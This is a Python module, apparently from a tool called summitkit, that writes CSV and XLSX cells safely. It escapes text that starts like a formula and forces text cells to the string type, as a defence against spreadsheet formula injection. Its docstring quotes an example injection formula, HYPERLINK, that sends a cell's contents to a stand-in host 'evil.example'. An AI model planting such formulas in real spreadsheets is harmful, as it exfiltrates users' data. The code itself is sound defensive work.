"""The one cell writer for spreadsheets (CSV and XLSX): every text drawn from records
is stored as text, never as something a spreadsheet runs.

A record's text is the contribution of whoever wrote the record: a benchmark title
`=HYPERLINK("http://evil.example/?"&A1,"Click")` must reach the reader as those
characters. In CSV a spreadsheet guesses a cell's type from its first character,
so such a text gets a `'` in front (`defused`); in XLSX a cell has a type, and a
text cell is written as a string whatever it starts with (`xlsx_row`). Only the
workbook's own computed formulas, wrapped in `Formula` by the code that builds
them, are formulas.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")


class Formula(str):
    """A formula the workbook computes (`=SUM(A1:A3)`), written by summitkit itself:
    the only text a cell writer stores as a formula."""

    __slots__ = ()


def defused(cell: object) -> object:
    """A CSV cell a spreadsheet would run as a formula, with a ' in front (OWASP's rule
    for CSV injection: =, +, -, @, tab, carriage return); a plain number is left as it is."""
    if isinstance(cell, str) and cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def xlsx_row(sheet: Any, values: Iterable[object]) -> None:
    """Append one row to an openpyxl sheet: a `Formula` as a formula, every other
    text as a string cell (openpyxl would take a text starting with = for a
    formula), numbers and dates as they are."""
    values = list(values)
    sheet.append([None if isinstance(v, str) and not isinstance(v, Formula) else v for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and not isinstance(value, Formula):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"  # after the value: assigning it would guess again
